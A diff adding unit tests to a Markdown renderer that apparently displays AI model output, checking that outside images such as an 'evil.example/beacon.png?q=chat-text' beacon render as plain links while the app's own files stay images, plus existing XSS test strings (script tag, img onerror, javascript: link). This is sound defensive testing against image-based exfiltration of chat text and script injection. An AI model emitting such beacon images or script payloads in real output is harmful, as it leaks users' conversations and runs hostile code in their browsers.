@@ -23,6 +23,23 @@ describe("Markdown", () => {
     expect(html).toContain('rel="noopener noreferrer nofollow"');
   });
 
+  it("shows an outside image as a link to it, never fetching it; our own files stay images", () => {
+    const html = render("![秘密](https://evil.example/beacon.png?q=chat-text)\n\n![文件](/api/file/download/k1?sig=a)");
+    expect(html).not.toContain('evil.example/beacon.png?q=chat-text" alt');
+    expect(html).not.toMatch(/<img[^>]*evil\.example/);
+    expect(html).toContain(
+      '<a href="https://evil.example/beacon.png?q=chat-text" title="秘密" target="_blank" rel="noopener noreferrer nofollow">https://evil.example/beacon.png?q=chat-text</a>',
+    );
+    expect(html).toMatch(/<img src="\/api\/file\/download\/k1\?sig=a" alt="文件" loading="lazy"\/>/);
+  });
+
+  it.each(["//evil.example/a.png", "http://evil.example/a.png", "HTTPS://EVIL.example/a.png"])(
+    "never loads %s as an image",
+    (src) => {
+      expect(render(`![x](${src})`)).not.toContain("<img");
+    },
+  );
+
   it("never renders raw HTML or script URLs from model output", () => {
     const html = render('<script>alert(1)</script><img src=x onerror="alert(1)">\n\n[点我](javascript:alert(1))');
     expect(html).not.toContain("<script");
